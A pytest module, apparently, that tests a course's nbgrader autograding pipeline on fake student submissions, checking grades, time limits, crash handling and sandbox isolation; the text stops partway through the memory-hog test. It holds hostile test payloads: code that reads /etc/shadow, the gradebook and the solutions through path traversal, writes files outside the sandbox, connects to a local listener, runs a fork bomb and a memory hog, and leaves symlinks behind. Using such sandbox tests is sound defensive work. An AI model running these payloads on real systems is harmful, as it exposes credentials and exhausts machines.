"""The grading pipeline, end to end, on fake submissions (one `make release` and one
`make grade JOBS=2` batch in a scratch course; the other tests read what that batch produced;
the two time limits are proven in a second, small course whose limits are short: see
``time_limits``).

Each guarantee of instructors/grading.md has a test here that fails when it breaks: full marks
for the solution, 0 for the blank release, partial marks for a plausible mistake, hidden
tests that catch hard-coded answers and library shortcuts, a loop cut by the timeout, a loop
spread over many cells cut by the notebook's time limit, crashes, a fork bomb, a memory hog
and tampering that cost only the culprit's points, feedback without hidden test code, results
that say what could not be graded, and a sealed sandbox that stops a malicious submission
(proved by running the same attack without it). Submissions that are not notebooks (a
symlink, a fifo, invalid JSON, extra files and links) are reported and never followed.
"""
import concurrent.futures
import os
import pathlib
import shutil
import socket
import subprocess
import tempfile
import threading
import time

import nbformat
import pytest
from test_grading_helpers import (
    ASSIGNMENTS,
    KERNEL_ATTACKS,
    LEAKS,
    ROOT,
    ZERO_BACKWARD,
    auto_points,
    autograded_outputs,
    hidden_test_lines,
    make,
    page_text,
    points_in_one_kernel,
    points_of,
    read_grades,
    read_rows,
    require_sandbox,
    sandbox_problem,
    scratch_course,
    solution_answers,
    submit,
    with_cell_after,
)

pytestmark = [pytest.mark.grading, pytest.mark.slow]
EX = "ex01_rnn_forward"
# The time-limits course (``time_limits``): the same settings with short limits, so that a
# cut costs seconds. A looping cell waits CELL_LIMIT s; the slow notebook's SLEEPERS cells of
# SLEEPER_S s each fit the per-cell limit one by one and pass NOTEBOOK_LIMIT together (the
# kernel's start counts too), so the notebook limit, not the cell's, must stop them.
CELL_LIMIT = 5
NOTEBOOK_LIMIT = 15
SLEEPERS, SLEEPER_S = 8, 3
assert SLEEPER_S < CELL_LIMIT < NOTEBOOK_LIMIT < SLEEPERS * SLEEPER_S
SECRET = "grader-secret-4f1d"   # an environment variable of the grader: never in a kernel
UNGRADABLE = {"garbage", "nblinker", "piper", "emptyfolder", "aaschema"}
DIES = {"killer"} | ({"hog"} if os.geteuid() == 0 else set())   # hog: the cgroup's cap
TOTAL_MB = 2048         # the scratch course's cap on a kernel's processes together                  # os._exit in a cell: a status of its own in the table


# ---- the fake submissions -------------------------------------------------------------

def _without(nb, *grade_ids):
    nb.cells = [c for c in nb.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") not in grade_ids]


def _tamper(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_rnn_step":
            cell.source = "pass  # no tests here"
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_rnn_forward":
            cell.metadata["nbgrader"]["points"] = 100
            cell.source = "print('all good')"
    _without(nb, "test_checked_forward")


ATTACK = '''
import os, socket
import numpy as np
report = []
for path in ["{course}/solutions/{ex}/{ex}.ipynb", "{course}/gradebook.db",
             "{project}/solutions/{ex}/{ex}.ipynb", "{clone}/solutions/{ex}/{ex}.ipynb",
             "../../../solutions/{ex}/{ex}.ipynb", "../../../gradebook.db",
             "../../../submitted/ada/{ex}/{ex}.ipynb", "/etc/shadow"]:
    try:
        report.append(f"LEAKED read {{path}} ({{len(open(path, 'rb').read())}} bytes)")
    except Exception as err:
        report.append(f"BLOCKED read {{path}}: {{type(err).__name__}}")
for path in ["{course}/pwned.txt", "{course}/exercises/pwned.txt", "{project}/pwned.txt",
             "{host_file}", "../../ada/pwned.txt"]:
    try:
        with open(path, "w") as handle:
            handle.write("pwned")
        report.append(f"WROTE {{path}}")
    except Exception as err:
        report.append(f"BLOCKED write {{path}}: {{type(err).__name__}}")
try:                                      # the folder of the kernel's own sockets
    import sys
    import json
    connection = sys.argv[sys.argv.index("-f") + 1]     # the sockets are where its "ip" says
    folder = os.path.dirname(json.load(open(connection))["ip"]) or os.path.dirname(connection)
    with open(os.path.join(folder, "pwned.txt"), "w") as handle:
        handle.write("pwned")
    report.append("WROTE socket folder")
except Exception as err:
    report.append(f"BLOCKED write socket folder: {{type(err).__name__}}")
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"pwned")
    report.append("LEAKED network")
except OSError as err:
    report.append(f"BLOCKED network: {{type(err).__name__}}")
try:
    hog = np.empty(8 * 2**30, dtype=np.uint8)          # reserved, never touched
    report.append("LEAKED memory: 8 GiB allocated")
    del hog
except MemoryError:
    report.append("BLOCKED memory")
report.append(f"UID {{os.getuid()}}")
report.append("SECRET " + os.environ.get("GRADER_SECRET", "absent"))
# look for any course, clone, gradebook or exchange on the whole visible disk
for name, folder in (("PROJECT", "{project}"), ("OPT", "/opt")):
    try:
        report.append(f"{{name}} {{sorted(os.listdir(folder))}}")
    except OSError as err:
        report.append(f"{{name}} {{type(err).__name__}}")
found = 0
for top, dirs, files in os.walk("/"):       # (the installed packages are not the course's)
    if top == "/proc" or top.endswith("site-packages") or found >= 3:
        dirs[:] = []
        continue
    for name in dirs + files:
        if name in ("gradebook.db", "solutions", "submitted", "autograded", "exchange", "inbound",
                    "nbgrader_config.py", "shadow", ".bashrc") or name.startswith("{ex}"):
            report.append(f"FOUND {{os.path.join(top, name)}}")
            found += 1
# leave things behind in the working folder, for nbgrader to follow or copy
for name, target in [("gradebook-link.db", "../../../gradebook.db"),
                     ("solution-link.ipynb", "{course}/solutions/{ex}/{ex}.ipynb")]:
    try:
        os.symlink(target, name)
    except OSError as err:
        report.append(f"no symlink: {{err}}")
with open("extra-output.txt", "w") as handle:
    handle.write("an extra file")
os.mkfifo("a-fifo")
print("\\n".join(report))
'''


class Listener:
    """A TCP server on the host's loopback that counts the connections it receives."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.hits = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.hits += 1
            connection.close()


def _attack(course, project, host_file, port, clone):
    return ATTACK.format(course=course, project=project, host_file=host_file, port=port, ex=EX,
                         clone=clone)


FORK_BOMB = """import os, time
count = 0
while True:
    try:
        pid = os.fork()
    except OSError as err:
        print(f"fork refused after {count} processes: {err}")
        break
    if pid == 0:                  # every child forks too, then holds its place
        try:
            while True:
                os.fork()
        except OSError:
            pass
        time.sleep(600)
        os._exit(0)
    count += 1
"""

MEMORY_HOG = """import numpy as np
blocks = []
try:
    while True:
        blocks.append(np.ones(2**24))         # 128 MiB, written: real memory
except MemoryError:
    print(f"memory refused after {len(blocks) * 128} MiB")
    del blocks
    raise
"""


# the forbidden library reached through indirection, one route per answer of ex01
INDIRECT = {
    "rnn_step": '''import importlib

class Box:
    pass

box = Box()
box.lib = importlib.import_module("rnnlab.numpy_nets")


def rnn_step(x_t, h_prev, W_xh, W_hh, b_h):
    return box.lib.rnn_step(x_t, h_prev, W_xh, W_hh, b_h)''',
    "rnn_forward": '''import pickle


def rnn_forward(X, W_xh, W_hh, b_h, h0=None):
    step = pickle.loads(b"crnnlab.numpy_nets\\nrnn_step\\n.")
    h = np.zeros((X.shape[0], W_hh.shape[0])) if h0 is None else h0
    states = []
    for t in range(X.shape[1]):
        h = step(X[:, t], h, W_xh, W_hh, b_h)
        states.append(h)
    return np.stack(states, axis=1)''',
    "checked_forward": '''import sys


def checked_forward(X, W_xh, W_hh, b_h):
    if np.ndim(X) != 3 or np.shape(X)[2] != np.shape(W_xh)[1]:
        raise ValueError(f"X must have shape (batch, time, input), got {np.shape(X)}")
    nets = sys.__dict__["modules"].get("rnnlab.numpy_nets") or np.__builtins__["__import__"](
        "rnnlab.numpy_nets", fromlist=["rnn_step"])
    h, states = np.zeros((X.shape[0], W_hh.shape[0])), []
    for t in range(X.shape[1]):
        h = nets.rnn_step(X[:, t], h, W_xh, W_hh, b_h)
        states.append(h)
    return np.stack(states, axis=1)''',
}
NOISY = '''import sys


def rnn_step(x_t, h_prev, W_xh, W_hh, b_h):
    print("debugging rnn_step", np.shape(x_t), file=sys.stderr)
    return np.tanh(x_t @ W_xh.T + h_prev @ W_hh.T + b_h)'''
FORGERIES = {"forger-a": ("redefined checking helpers", "patched numpy"),
             "forger-b": ("input transformer", "ast transformer")}


def _copy_a_test_cell(nb):
    """Jupyter's copy and paste: a second cell with the same test metadata, edited."""
    at = next(i for i, c in enumerate(nb.cells)
              if c.metadata.get("nbgrader", {}).get("grade_id") == "test_rnn_step")
    copy = nbformat.from_dict(nbformat.v4.new_code_cell("print('my own check')"))
    copy.metadata = nbformat.from_dict(dict(nb.cells[at].metadata))
    nb.cells.insert(at + 1, copy)


HOARDER = """import os, time
import numpy as np
children = []
for _ in range(3):                            # 1 GiB each, written: each within 3 GiB
    pid = os.fork()
    if pid == 0:
        block = np.ones(2**27)
        time.sleep(5)
        os._exit(0)
    children.append(pid)
killed = [os.waitpid(pid, 0)[1] & 0x7f == 9 for pid in children]
print(f"children killed: {sum(killed)} of 3")
assert not any(killed)
"""


SLEEPER = f"import time\ntime.sleep({SLEEPER_S})"


def _sleepers(nb):
    """A slow notebook: SLEEPERS cells of SLEEPER_S s each (each within the per-cell timeout)
    before the last test cell, longer than the notebook limit in all."""
    at = next(i for i, c in enumerate(nb.cells)
              if c.metadata.get("nbgrader", {}).get("grade_id") == "test_checked_forward")
    for _ in range(SLEEPERS):
        nb.cells.insert(at, nbformat.v4.new_code_cell(SLEEPER))


def _newer_format(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "rnn_step":
            cell.metadata["nbgrader"]["schema_version"] = 4


def _not_notebooks(course: pathlib.Path, right: dict):
    """Submission folders that hold no notebook nbgrader could safely read."""
    folder = course / "submitted" / "garbage" / EX
    folder.mkdir(parents=True)
    (folder / f"{EX}.ipynb").write_text('{"cells": [ this is not JSON')
    folder = course / "submitted" / "nblinker" / EX            # the solution, via a symlink
    folder.mkdir(parents=True)
    (folder / f"{EX}.ipynb").symlink_to(course / "solutions" / EX / f"{EX}.ipynb")
    folder = course / "submitted" / "piper" / EX               # would block a reader forever
    folder.mkdir(parents=True)
    os.mkfifo(folder / f"{EX}.ipynb")
    # nbgrader stops a whole run on a cell that claims a newer metadata format; named to come
    # first in its worker's run, it must cost only itself
    submit(course, "aaschema", EX, right, edit=_newer_format)
    folder = course / "submitted" / "emptyfolder" / EX
    folder.mkdir(parents=True)
    (folder / "notes.txt").write_text("I will hand it in later")
    # a correct notebook next to links to the gradebook and the solutions, a file and a fifo
    folder = submit(course, "linker", EX, right).parent
    (folder / "gradebook.db").symlink_to("../../../gradebook.db")
    (folder / "solution.ipynb").symlink_to(f"../../../solutions/{EX}/{EX}.ipynb")
    (folder / "notes.txt").write_text("extra")
    os.mkfifo(folder / "pipe")


def _time_limits_batch(base: pathlib.Path, sandboxed: bool) -> dict:
    """The time-limits course: ex01 alone, the course's settings with CELL_LIMIT and
    NOTEBOOK_LIMIT, a loop in one cell (looper) and a slow notebook (spreader), released and
    graded by `make grade JOBS=2` (a worker each). What it proves is the limits' mechanism
    (nbgrader's Execute.timeout, SandboxedExecute.notebook_timeout); the course's own values
    are read from its nbgrader_config.py, not waited for."""
    course = scratch_course(base, f"c.Execute.timeout = {CELL_LIMIT}\n"
                                  f"c.SandboxedExecute.notebook_timeout = {NOTEBOOK_LIMIT}")
    for folder in (course / "solutions").iterdir():
        if folder.name != EX:
            shutil.rmtree(folder)
    release = make("release", course)
    assert release.returncode == 0, release.stdout + release.stderr
    right = solution_answers(EX)
    submit(course, "looper", EX, {**right, "checked_forward": "while True:\n    pass"})
    submit(course, "spreader", EX, right, edit=_sleepers)
    started = time.perf_counter()
    result = make("grade", course, "JOBS=2", **({} if sandboxed else {"GRADE_UNSANDBOXED": "1"}))
    log = (course / "grading.log").read_text() if (course / "grading.log").exists() else ""
    return {"course": course, "result": result, "grades": read_grades(course),
            "rows": read_rows(course), "log": log, "grade_s": time.perf_counter() - started}


_batch: concurrent.futures.Future | None = None
_clones: list[pathlib.Path] = []


def start_in_background(tmp_path_factory) -> None:
    """Start the main batch (:func:`_grade_the_batch`) in a thread of this process, once
    (conftest.py calls this before the session's first test). It is mostly waiting (nbgrader,
    kernels starting, time limits), so it runs beside the tests before this module's instead
    of after them; two graders at once never share a sandbox user (workers.claim_slot).
    A test whose timing another grader would upset waits for it (``wait_for_the_background``)."""
    global _batch
    if _batch is None:
        pool = concurrent.futures.ThreadPoolExecutor(1, thread_name_prefix="grading-batch")
        _batch = pool.submit(_grade_the_batch, tmp_path_factory)
        pool.shutdown(wait=False)


def wait_for_the_background() -> None:
    if _batch is not None:
        concurrent.futures.wait([_batch])


def stop_the_background() -> None:
    """At the session's end (conftest.py): the batch has ended (make grade ends by its own
    time limits), and the course's copy outside the temporary folder is gone."""
    wait_for_the_background()
    for clone in _clones:
        shutil.rmtree(clone, ignore_errors=True)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The main batch (:func:`_grade_the_batch`), started in the background at the session's
    start; the tests below each prove one guarantee of instructors/grading.md on what it made."""
    start_in_background(tmp_path_factory)
    return _batch.result()


def _grade_the_batch(tmp_path_factory) -> dict:
    """The main batch: `make release` of every assignment and one `make grade JOBS=2` of the
    fake submissions above (the solution of every assignment, mistakes, crashes, attacks,
    folders that are not notebooks) under the course's own settings, with a smaller memory
    cap; and the time-limits course (``_time_limits_batch``), released and graded while this
    one is; then, sandboxed, the serial regrade of a subset (``_serial_batch``)."""
    base = tmp_path_factory.mktemp("grading")
    sandboxed = sandbox_problem() is None
    # The time-limits course is released and graded while this one is: it mostly waits (a
    # loop, sleeps). Two `make grade` at once take different sandbox users (workers.claim_slot).
    limits = concurrent.futures.ThreadPoolExecutor(1)
    time_limits = limits.submit(_time_limits_batch, tmp_path_factory.mktemp("time-limits"),
                                sandboxed)
    limits.shutdown(wait=False)
    course = scratch_course(base, f"c.SandboxedKernelManager.total_memory_mb = {TOTAL_MB}")
    # another copy of the course on this machine, outside /tmp (where a sandbox that only
    # hides /tmp and a few folders would not find it)
    clone = pathlib.Path(tempfile.mkdtemp(prefix="rnn-course-clone-",
                                          dir="/var/tmp" if os.path.isdir("/var/tmp") else None))
    _clones.append(clone)
    shutil.copytree(ROOT / "solutions", clone / "solutions")
    started = time.perf_counter()
    release = make("release", course)
    assert release.returncode == 0, release.stdout + release.stderr
    release_s = time.perf_counter() - started

    right = solution_answers(EX)
    stub = {gid: "# YOUR CODE HERE\nraise NotImplementedError()" for gid in right}
    for slug in ASSIGNMENTS:                                   # the solution, everywhere
        submit(course, "ada", slug, solution_answers(slug))
    submit(course, "blank", EX)
    submit(course, "blank", "ex03_bptt")
    forgets_h0 = right["rnn_forward"].replace("h = np.zeros((B, H)) if h0 is None else h0",
                                              "h = np.zeros((B, H))")
    assert forgets_h0 != right["rnn_forward"]
    submit(course, "partial", EX, {**stub, "rnn_step": right["rnn_step"],
                                   "rnn_forward": forgets_h0})
    submit(course, "hardcoded", EX, {**right, "rnn_step": (
        "def rnn_step(x_t, h_prev, W_xh, W_hh, b_h):\n"
        "    return np.tanh(np.array([[0.1, 1.9, 0.4]]))")})
    submit(course, "shortcut", EX, {**right, "rnn_step": "from rnnlab.numpy_nets import rnn_step"})
    submit(course, "killer", EX, {**right, "checked_forward": "import os\nos._exit(1)"})
    submit(course, "sysexit", EX, {**right, "checked_forward": "import sys\nsys.exit(3)"})
    submit(course, "quitter", EX, {**right, "checked_forward": "exit()"})
    submit(course, "deleter", EX, right,
           edit=lambda nb: _without(nb, "test_rnn_forward", "checked_forward",
                                    "test_checked_forward"))
    submit(course, "tamperer", EX, stub, edit=_tamper)
    # attacks on the verdict from inside the kernel (two forms each), hidden-test leaks,
    # the forbidden library through indirection, and fair answers that used to score 0
    ex03 = solution_answers("ex03_bptt")
    for student, forms in FORGERIES.items():
        submit(course, student, "ex03_bptt", {**ex03, "backward": ZERO_BACKWARD},
               edit=with_cell_after("gradient_diagnosis", "\n".join(KERNEL_ATTACKS[f] for f in forms)))
    submit(course, "leaker", "ex03_bptt", ex03,
           edit=with_cell_after("gradient_diagnosis", "\n".join(LEAKS.values())))
    submit(course, "indirect", EX, {**right, **INDIRECT})
    submit(course, "noisy", EX, {**right, "rnn_step": NOISY})
    submit(course, "copier", EX, right, edit=_copy_a_test_cell)
    # folders that nbgrader cannot grade as they are: reported, and make grade fails
    submit(course, "Zoë Smith", EX, right)
    (course / "submitted" / "ada" / "ex01").mkdir()
    _not_notebooks(course, right)

    listener = Listener()
    host_file = base / "host-file-written-by-a-submission.txt"
    if sandboxed:
        submit(course, "mallory", EX, {**stub, "rnn_step": _attack(course, ROOT, host_file,
                                                                   listener.port, clone)})
        submit(course, "forker", EX, {**right, "checked_forward": FORK_BOMB})
        submit(course, "hog", EX, {**right, "checked_forward": MEMORY_HOG})
        submit(course, "hoarder", EX, {**right, "checked_forward": HOARDER})
        submit(course, "flooder", EX, {**right, "checked_forward": (
            "for _ in range(400):\n    print('x' * 100_000)     # 40 MB of output")})
    started = time.perf_counter()
    result = make("grade", course, "JOBS=2", GRADER_SECRET=SECRET,
                  **({} if sandboxed else {"GRADE_UNSANDBOXED": "1"}))
    grade_s = time.perf_counter() - started
    waited = time.perf_counter()
    time_limits = time_limits.result()
    waited = time.perf_counter() - waited
    print(f"make release: {release_s:.1f} s; make grade JOBS=2 "
          f"({len(list(course.glob('submitted/*/*')))} submissions): {grade_s:.1f} s; "
          f"time-limits course graded in {time_limits['grade_s']:.1f} s, waited for {waited:.1f} s")
    log = (course / "grading.log").read_text() if (course / "grading.log").exists() else ""
    graded = {"course": course, "result": result, "grades": read_grades(course),
              "rows": read_rows(course), "log": log, "listener": listener,
              "host_file": host_file, "sandboxed": sandboxed, "grade_s": grade_s, "clone": clone,
              "limits": time_limits}
    if sandboxed:
        graded["serial"] = _serial_batch(graded, tmp_path_factory.mktemp("serial") / "course")
    return graded


def score(graded, student, slug=EX):
    return graded["grades"][(student, slug)]


# ---- release ---------------------------------------------------------------------------

def test_committed_exercises_equal_a_fresh_release(graded):
    """Proves: exercises/ holds exactly what `make release` makes from solutions/ today."""
    fresh = graded["course"] / "exercises"
    committed = ROOT / "exercises"
    fresh_files = sorted(p.relative_to(fresh) for p in fresh.rglob("*") if p.is_file())
    committed_files = sorted(p.relative_to(committed) for p in committed.rglob("*")
                             if p.is_file() and ".ipynb_checkpoints" not in p.parts)
    assert fresh_files == committed_files, "exercises/ lists other files than a fresh release: run make release"
    for name in fresh_files:
        assert (fresh / name).read_bytes() == (committed / name).read_bytes(), (
            f"exercises/{name} differs from a fresh release: run `make release` and commit it")


# ---- grades ------------------------------------------------------------------------------

def test_grade_grades_everything_gradable_and_fails_for_the_rest(graded):
    """A failing exit status because some submissions could not be graded; every other one is
    graded and every student x assignment is in grades.csv, with its status."""
    result = graded["result"]
    out = result.stdout + result.stderr
    assert result.returncode != 0 and f"{len(UNGRADABLE)} ungradable" in out, out[-3000:]
    rows = graded["rows"]
    submitted = {(p.parent.name, p.name) for p in graded["course"].glob("submitted/*/*")}
    submitted -= {("Zoë Smith", EX), ("ada", "ex01")}        # left out, loudly (test below)
    assert submitted <= set(rows), "a submission is missing from grades.csv"
    students = {key[0] for key in rows}
    assert set(rows) == {(s, a) for s in students for a in ASSIGNMENTS}
    for (student, slug), row in rows.items():
        if (student, slug) not in submitted:
            assert (row["status"], row["score"]) == ("not submitted", ""), row
        elif student in UNGRADABLE:
            assert (row["status"], row["score"]) == ("ungradable", ""), row
            assert f"UNGRADABLE {student}/{slug}: " in out
        elif student in DIES:
            assert row["status"] == "kernel died", row
            assert f"KERNEL DIED {student}/{slug}: the kernel died" in out
        else:
            assert row["status"] == "graded", row
            assert row["score"] != ""


def test_no_folder_is_left_out_silently(graded):
    """A student id with a space or an accent, an assignment folder named by its short name:
    each is named in the summary with what to do, and make grade exits non-zero."""
    out = graded["result"].stdout
    assert graded["result"].returncode != 0
    assert "LEFT OUT submitted/'Zoë Smith': not a valid student id" in out, out[-3000:]
    assert f"LEFT OUT submitted/ada/ex01 (a folder): not an assignment (rename it {EX}?)" in out


def test_suspicious_code_is_flagged_for_the_instructor_without_changing_points(graded):
    rows = graded["rows"]
    assert "get_ipython" in rows[("leaker", "ex03_bptt")]["suspicious"]
    assert "assigns np.allclose" in rows[("forger-a", "ex03_bptt")]["suspicious"]
    assert rows[("ada", EX)]["suspicious"] == ""
    assert "forger-b/ex03_bptt" in next(line for line in graded["result"].stdout.splitlines()
                                        if line.startswith("SUSPICIOUS (!)"))


def test_a_resubmission_is_regraded_by_content_not_by_file_times(tmp_path):
    """cp -p or unzip keep an older mtime: the digest of the files still tells them apart."""
    from coursetools.grade import Submission
    from coursetools.grade import fresh as _fresh
    first = Submission("ada", EX, files={f"{EX}.ipynb": b'{"cells": []}'}, newest=2000.0)
    again = Submission("ada", EX, files={f"{EX}.ipynb": b'{"cells": [1]}'}, newest=1000.0)
    notebook = tmp_path / "autograded" / "ada" / EX / f"{EX}.ipynb"
    notebook.parent.mkdir(parents=True)
    notebook.write_text("{}")
    digests = {f"ada/{EX}": first.digest}
    assert _fresh(tmp_path, first, digests)
    assert not _fresh(tmp_path, again, digests)


def test_grade_prints_a_short_summary_and_keeps_the_log(graded):
    out = graded["result"].stdout
    lines = out.splitlines()
    assert len(lines) < 80, out
    header = next(line for line in lines if line.startswith("student"))
    assert all(slug.split("_")[0] in header for slug in ASSIGNMENTS)
    ada = next(line for line in lines if line.startswith("ada "))
    assert f"{auto_points(EX):g}/{auto_points(EX) + 2:g}*" in ada      # written answer to grade
    blank = next(line for line in lines if line.startswith("blank "))
    assert "not submitted" in blank and "0/" in blank
    assert "ungradable" in next(line for line in lines if line.startswith("garbage "))
    assert "graded " in out and " notebooks in " in out                 # the progress count
    # nbgrader's own log lines are in grading.log only
    assert "Attribute 'checksum'" not in out
    assert "[AutogradeApp" in graded["log"] and "[GenerateFeedbackApp" in graded["log"]


def test_not_notebooks_are_reported_and_never_followed(graded):
    """A symlink named like the notebook, a fifo, invalid JSON, a folder without the notebook:
    ungradable, with the reason; generate_feedback and the export still ran for everyone."""
    out = graded["result"].stdout
    assert f"UNGRADABLE garbage/{EX}: {EX}.ipynb is not a valid notebook" in out
    assert f"UNGRADABLE nblinker/{EX}: {EX}.ipynb is a symlink, not a file" in out
    assert f"UNGRADABLE piper/{EX}: {EX}.ipynb is a fifo, not a file" in out
    assert f"UNGRADABLE emptyfolder/{EX}: no {EX}.ipynb in the folder" in out
    assert f"UNGRADABLE aaschema/{EX}: One or more notebooks in the assignment use an newer" in out
    course = graded["course"]
    for student in UNGRADABLE:
        assert not (course / "autograded" / student).exists()
        assert not (course / "feedback" / student).exists()
    assert (course / "feedback" / "ada" / EX / f"{EX}.html").is_file()


def test_links_and_extra_files_in_a_submission_are_ignored(graded):
    """The notebook beside them is graded; the links, the file and the fifo are listed and
    never reach autograded/ or feedback/ (nbgrader would copy every file of the folder,
    following links: the gradebook and the solution would land in the student's feedback)."""
    course = graded["course"]
    assert score(graded, "linker") == auto_points(EX)
    out = graded["result"].stdout
    line = next(line for line in out.splitlines() if line.startswith("IGNORED in submitted/linker/"))
    for entry in ("gradebook.db (a symlink to ../../../gradebook.db)",
                  f"solution.ipynb (a symlink to ../../../solutions/{EX}/{EX}.ipynb)",
                  "notes.txt (a file)", "pipe (a fifo)"):
        assert entry in line, line
    assert sorted(p.name for p in (course / "autograded" / "linker" / EX).iterdir()) == [f"{EX}.ipynb"]
    assert sorted(p.name for p in (course / "feedback" / "linker" / EX).iterdir()) == [f"{EX}.html"]


def test_only_graded_notebooks_and_feedback_pages_come_out(graded):
    """Whatever a kernel leaves in its working folder (links to the gradebook and to the
    solutions, files, fifos) stays in the sandbox."""
    course = graded["course"]
    for folder in course.glob("autograded/*/*"):
        names = {p.name for p in folder.iterdir()}
        assert names == {f"{folder.name}.ipynb"}, (folder, names)
        assert not (folder / f"{folder.name}.ipynb").is_symlink()
    for folder in course.glob("feedback/*/*"):
        assert {p.name for p in folder.iterdir()} == {f"{folder.name}.html"}, folder
    gradebook = (course / "gradebook.db").read_bytes()[:16]
    for path in course.glob("feedback/**/*"):
        if path.is_file():
            assert not path.read_bytes().startswith(gradebook), path


@pytest.mark.parametrize("slug", ASSIGNMENTS)
def test_the_solution_gets_full_marks(graded, slug):
    assert score(graded, "ada", slug) == auto_points(slug) > 0


def test_feedback_says_not_graded_yet_before_hand_grading(graded):
    page = (graded["course"] / "feedback" / "ada" / EX / f"{EX}.html").read_text()
    assert "Written response</a> (Score: not graded yet / 2.0)" in page
    assert "2 points not graded yet" in page
    assert "Written response</a> (Score: 0.0" not in page
    assert graded["rows"][("ada", EX)]["points_to_grade_by_hand"] == "2.0"


def test_the_blank_release_gets_zero(graded):
    assert score(graded, "blank") == 0.0
    assert score(graded, "blank", "ex03_bptt") == 0.0


def test_a_plausible_mistake_gets_partial_marks(graded):
    assert score(graded, "partial") == 4.0      # rnn_step right, rnn_forward ignores h0


def test_hidden_tests_catch_a_hard_coded_answer(graded):
    assert score(graded, "hardcoded") == 0.0    # passes the public test of rnn_step only
    outputs = autograded_outputs(graded["course"], "hardcoded", EX)
    assert "hidden test: wrong values" in outputs


def test_hidden_tests_catch_importing_the_answer(graded):
    assert score(graded, "shortcut") <= auto_points(EX) - points_of(EX, "test_rnn_step")


def course_setting(section: str, name: str, guide_says: str | None = None):
    """The value of ``section.name`` in the course's configuration, loaded as nbgrader loads
    nbgrader_config.py; when ``guide_says`` is given (``{}`` for the value), the grading
    guide must say it."""
    from traitlets.config.loader import PyFileConfigLoader
    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    assert name in config[section], f"nbgrader_config.py does not set {section}.{name}"
    value = config[section][name]
    if guide_says is not None:
        guide = (ROOT / "instructors" / "grading.md").read_text()
        assert guide_says.format(value) in guide, f"the guide does not say {guide_says.format(value)!r}"
    return value


def test_an_infinite_loop_is_cut_by_the_timeout(graded):
    """Proves: the course sets a per-cell timeout (the guide's value, read from its
    nbgrader_config.py) with no retries, and such a timeout (Execute.timeout, CELL_LIMIT s in
    the time-limits course) interrupts a looping cell in the sandboxed kernel
    (KeyboardInterrupt), costs only that cell's points, and the submission is still graded."""
    assert course_setting("Execute", "timeout", "per-cell timeout of {} s") > CELL_LIMIT
    assert course_setting("Execute", "execute_retries") == 0
    limits = graded["limits"]
    assert limits["grades"][("looper", EX)] == auto_points(EX) - 2.0   # only the looping part lost
    # the configured timeout fired, and the kernel was interrupted (KeyboardInterrupt)
    assert f"Timeout waiting for execute reply ({CELL_LIMIT}s)" in limits["log"]
    assert "KeyboardInterrupt" in autograded_outputs(limits["course"], "looper", EX)
    assert limits["rows"][("looper", EX)]["status"] == "graded"


def test_a_loop_spread_over_many_cells_is_cut_by_the_notebook_limit(graded):
    """Proves: cells that each fit the per-cell timeout but together run past the notebook's
    limit (SandboxedExecute.notebook_timeout, NOTEBOOK_LIMIT s in the time-limits course) are
    stopped by that limit: at least one slow cell ran whole, the one at the limit is
    interrupted, the cells after it score 0, and the submission is marked timed out, in
    grades.csv and in make grade's table. The course's own limit is read from its config."""
    assert course_setting("SandboxedExecute", "notebook_timeout",
                          "a time limit per notebook ({} s, kernel start included)") > NOTEBOOK_LIMIT
    limits = graded["limits"]
    assert limits["grades"][("spreader", EX)] == auto_points(EX) - points_of(EX, "test_checked_forward")
    row = limits["rows"][("spreader", EX)]
    assert row["status"] == "timed out" and "time limit" in row["detail"]
    table = limits["result"].stdout.splitlines()
    assert "timed out" in next(line for line in table if line.startswith("spreader ")), table
    outputs = autograded_outputs(limits["course"], "spreader", EX)
    assert f"NotebookTimeLimit: the notebook ran past its time limit of {NOTEBOOK_LIMIT} s" in outputs
    nb = nbformat.read(limits["course"] / "autograded" / "spreader" / EX / f"{EX}.ipynb", 4)
    ran = [c for c in nb.cells if c.cell_type == "code" and c.source == SLEEPER
           and not any(o.get("ename") == "NotebookTimeLimit" for o in c.outputs)]
    assert 1 <= len(ran) < SLEEPERS, "the limit should stop the notebook within its slow cells"


@pytest.mark.parametrize("student", ["killer", "sysexit", "quitter"])
def test_a_crash_loses_only_its_own_points(graded, student):
    assert score(graded, student) == auto_points(EX) - 2.0
    assert score(graded, "ada") == auto_points(EX)


def test_a_fork_bomb_is_contained(graded):
    """The process limit stops it; the culprit loses the cell's points, grading goes on, and
    no process of it survives the grader."""
    require_sandbox()
    assert score(graded, "forker") == auto_points(EX) - points_of(EX, "test_checked_forward")
    outputs = autograded_outputs(graded["course"], "forker", EX)
    refused = [line for line in outputs.splitlines() if line.startswith("fork refused after ")]
    assert refused and int(refused[0].split()[3]) < 256, outputs
    if os.geteuid() == 0:       # the sandbox's uids (2000000000 + worker) soon run nothing
        def sandboxed():
            found = []
            for status in pathlib.Path("/proc").glob("[0-9]*/status"):
                try:
                    uid = int(status.read_text().split("Uid:")[1].split()[0])
                except (OSError, IndexError):
                    continue
                if 2_000_000_000 <= uid < 2_000_001_000:
                    found.append(str(status))
            return found

        # a killed process group is reaped by the kernel, which takes a moment on a busy
        # machine: a survivor is one still there after 15 s (the forker's children sleep 600)
        deadline = time.monotonic() + 15
        while (survivors := sandboxed()) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not survivors, f"sandbox processes survived: {survivors[:5]}"


def test_a_flood_of_output_is_cut(graded):
    """Printing 40 MB: the grader keeps 16 MiB at most (then LimitOutput trims the cell)."""
    require_sandbox()
    assert score(graded, "flooder") == auto_points(EX) - points_of(EX, "test_checked_forward")
    assert "[output cut: this notebook printed more than 16 MiB" in autograded_outputs(
        graded["course"], "flooder", EX)
    assert (graded["course"] / "autograded" / "flooder" / EX / f"{EX}.ipynb").stat().st_size < 2**24


def test_a_memory_hog_is_refused_memory(graded):
    require_sandbox()
    assert score(graded, "hog") == auto_points(EX) - points_of(EX, "test_checked_forward")
    outputs = autograded_outputs(graded["course"], "hog", EX)
